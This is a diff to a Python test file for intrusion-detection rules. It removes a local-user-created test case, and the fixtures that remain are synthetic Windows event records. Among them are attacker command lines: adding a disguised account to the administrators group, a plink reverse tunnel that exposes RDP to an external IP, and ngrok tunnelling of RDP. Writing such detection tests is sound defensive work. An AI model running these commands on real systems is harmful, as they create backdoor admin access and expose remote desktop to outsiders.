@@ -43,12 +43,6 @@ def security4688(command: str, image: str) -> dict[str, Any]:
     return security(4688, NewProcessName=image, ParentProcessName=CMD, CommandLine=command)
 
 
-def user_created(name: str) -> dict[str, Any]:
-    return security(4720, TargetUserName=name, TargetDomainName="EXCH01", TargetSid="S-1-5-21-1-2-3-1001",
-                    PrivilegeList="-", SamAccountName=name, DisplayName="%%1793", UserPrincipalName="-",
-                    HomeDirectory="%%1793", UserAccountControl="\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084")
-
-
 def member_added(group_sid: str, group: str, member: str = "-") -> dict[str, Any]:
     return security(4732, MemberName=member, MemberSid="S-1-5-21-1-2-3-1001", TargetUserName=group,
                     TargetDomainName="Builtin", TargetSid=group_sid, PrivilegeList="-")
@@ -63,7 +57,6 @@ CASES: list[tuple[dict[str, Any], tuple[str, str] | None]] = [
     (sysmon1("net localgroup administrators DefaultAcc0unt /add", NET), ("exhunt_net_localgroup_add", "high")),
     (security4688('net1 localgroup "Remote Desktop Users" DefaultAcc0unt /add', NET1),
      ("exhunt_net_localgroup_add", "high")),
-    (user_created("DefaultAcc0unt"), ("exhunt_local_user_created", "medium")),
     (member_added("S-1-5-32-544", "Administratoren"), ("exhunt_local_admin_group_member_added", "high")),
     (member_added("S-1-5-32-555", "Remote Desktop Users"), ("exhunt_rdp_group_member_added", "medium")),
     (sysmon1("C:\\ProgramData\\plink.exe -pw x -R 0.0.0.0:4433:127.0.0.1:3389 a@203.0.113.7 -P 443",
@@ -73,7 +66,6 @@ CASES: list[tuple[dict[str, Any], tuple[str, str] | None]] = [
     (sysmon1("C:\\Users\\Public\\ngrok.exe tcp 3389", "C:\\Users\\Public\\ngrok.exe"), ("exhunt_tunnel_tool", "high")),
     (sysmon1("net localgroup administrators", NET), None),
     (sysmon1("ssh admin@backup01", "C:\\Windows\\System32\\OpenSSH\\ssh.exe"), None),
-    (user_created("WDAGUtilityAccount"), None),
     (member_added("S-1-5-32-544", "Administrators", ETS), None),
 ]
 
